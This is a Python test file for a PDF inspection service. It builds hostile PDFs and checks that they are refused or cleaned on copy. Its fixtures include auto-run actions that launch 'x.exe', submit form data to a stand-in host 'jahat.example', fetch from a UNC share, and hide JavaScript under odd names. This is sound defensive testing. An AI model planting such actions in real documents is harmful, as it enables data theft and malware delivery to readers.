"""Nothing that acts, fetches or carries another file gets into a copy, nor is kept in a paper that stays as it came."""

import io
from collections.abc import Callable
from typing import Any

import pytest
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream, String

from services.documents.inspection import inspect
from services.kernel.documents import DocumentType, FileFault, FileFlag
from tests.documents.inspection.makers import pdf, saved
from tests.documents.inspection.test_papers import HOSTILE, attachment, script_at_open

SK, SPTJM, SURAT = DocumentType.SK, DocumentType.SPTJM, DocumentType.SURAT
Change = Callable[[Pdf], object]


def changed(change: Change) -> bytes:
    with Pdf.open(io.BytesIO(pdf())) as paper:
        change(paper)
        return saved(paper)


def opens(**action: Any) -> Change:
    def change(paper: Pdf) -> None:
        paper.Root.OpenAction = Dictionary(**action)

    return change


def pressed(**action: Any) -> Change:
    def change(paper: Pdf) -> None:
        paper.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))]
        )

    return change


def after_another(paper: Pdf) -> None:
    following = Dictionary(S=Name.URI, URI=String("http://jahat.example/"))
    paper.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([following]))


def when_a_page_opens(paper: Pdf) -> None:
    paper.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("http://jahat.example/")))


def stream_elsewhere(paper: Pdf) -> None:
    paper.pages[0].obj.Contents = paper.make_stream(b"", F=String("http://jahat.example/x"), FFilter=Name.FlateDecode)


def behind_an_odd_name(paper: Pdf) -> None:
    paper.Root.PieceInfo = Object.parse(b"<< /Caf#e9 << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")


DANGEROUS = [
    *HOSTILE,
    opens(S=Name.GoToR, F=String("\\\\jahat\\berbagi")),
    opens(S=Name.GoToE, F=String("x")),
    opens(S=Name.Launch, F=String("x.exe")),
    opens(S=Name.URI, URI=String("http://jahat.example/")),
    opens(S=Name.SubmitForm, F=String("http://jahat.example/")),
    opens(S=Name.ImportData, F=String("x")),
    pressed(S=Name.GoToR, F=String("\\\\jahat\\berbagi")),
    after_another,
    when_a_page_opens,
    stream_elsewhere,
    behind_an_odd_name,
]


@pytest.mark.parametrize("change", DANGEROUS)
@pytest.mark.parametrize("jenis", [SPTJM, SURAT])
def test_a_paper_kept_as_it_came_must_not_act(jenis: DocumentType, change: Change) -> None:
    found = inspect(jenis, changed(change))
    assert (found.fault, found.content) == (FileFault.ACTIVE_CONTENT, b"")
    assert "Cetak ke PDF baru" in found.message


@pytest.mark.parametrize(
    "change",
    [
        pressed(S=Name.URI, URI=String("https://contoh.go.id/")),
        pressed(S=Name.GoTo, D=Array([0, Name.Fit])),
        opens(S=Name.GoTo, D=Array([0, Name.Fit])),
    ],
)
def test_a_link_that_somebody_must_press_does_no_harm(change: Change) -> None:
    received = changed(change)
    assert (inspect(SURAT, received).content, inspect(SURAT, received).flags) == (received, ())


def test_sound_and_active_forms_are_flagged() -> None:
    assert inspect(SURAT, changed(pressed(S=Name.Sound))).flags == (FileFlag.ACTIVE_CONTENT,)


def test_names_that_are_not_utf_8_are_fine() -> None:
    def rename(paper: Pdf) -> None:
        paper.pages[0].obj.Resources.Font.F1.BaseFont = Object.parse(b"/Arial#e9#ff")
        paper.pages[0].obj.Resources.ExtGState = Object.parse(b"<< /Caf#e9 << /CA 1 >> >>")

    received = changed(rename)
    assert inspect(SPTJM, received).content == received
    assert inspect(SK, received).accepted


# ---- what hangs below a page's resources


def everything(paper: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    picture = paper.make_stream(b"\x00", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    picture.ColorSpace = Name.DeviceGray
    picture.Metadata = paper.make_stream(b"<x:xmpmeta>penulis jahat</x:xmpmeta>")
    picture.Alternates = Array([Dictionary(Image=paper.make_stream(b"lain jahat"), DefaultForPrinting=True)])
    picture.OPI = Dictionary({"/2.0": Dictionary(F=String("\\\\jahat\\berbagi"))})
    form = paper.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
    form.Ref = Dictionary(F=String("\\\\jahat\\berbagi"), Page=0)
    form.PieceInfo = Dictionary(Jahat=Dictionary(Private=String("jahat")))
    form.AF = Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=paper.make_stream(b"MZ jahat")))])
    form.AA = Dictionary(O=script)
    program = paper.make_stream(b"jahat print", Type=Name.XObject, Subtype=Name.PS)
    page = paper.pages[0].obj
    page.Resources.XObject = Dictionary(P=picture, A=form, JS=program)
    page.Resources.Properties = Dictionary(M=Dictionary(Metadata=paper.make_stream(b"jahat"), A=script))


def test_nothing_foreign_survives_below_the_resources() -> None:
    found = inspect(SK, changed(everything))
    assert found.accepted
    with Pdf.open(io.BytesIO(found.content)) as copy:
        written = b"".join(thing.unparse(resolved=True) for thing in copy.objects)
        written += b"".join(thing.read_bytes() for thing in copy.objects if isinstance(thing, Stream))
        assert {"/P", "/A", "/JS"} == set(copy.pages[0].obj.Resources.XObject.keys())
    assert b"jahat" not in written
    assert b"alert" not in written


def test_letters_and_fonts_may_have_any_name() -> None:
    def draw(paper: Pdf) -> None:
        letter = paper.make_stream(b"0 0 500 500 re f")
        font = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=Array([0, 0, 500, 500]))
        font.CharProcs = Dictionary(A=letter, AA=letter, JS=letter, F=letter)
        paper.pages[0].obj.Resources.Font.A = paper.make_indirect(font)

    with Pdf.open(io.BytesIO(inspect(SK, changed(draw)).content)) as copy:
        assert set(copy.pages[0].obj.Resources.Font.A.CharProcs.keys()) == {"/A", "/AA", "/JS", "/F"}


def test_bytes_that_lie_elsewhere_are_left_out_and_told() -> None:
    found = inspect(SK, changed(stream_elsewhere))
    assert found.flags == (FileFlag.NOT_ALL_KEPT,)
    assert b"jahat" not in found.content


def test_a_script_in_an_odd_place_of_a_copy_is_refused() -> None:
    def hide(paper: Pdf) -> None:
        paper.pages[0].obj.Resources.ExtGState = Object.parse(
            b"<< /Caf#e9 << /TR << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>"
        )

    assert inspect(SK, changed(hide)).fault is FileFault.ACTIVE_CONTENT


def test_attachments_and_scripts_do_not_hinder_a_rebuilt_paper() -> None:
    for change in (attachment, script_at_open):
        assert inspect(SK, changed(change)).accepted
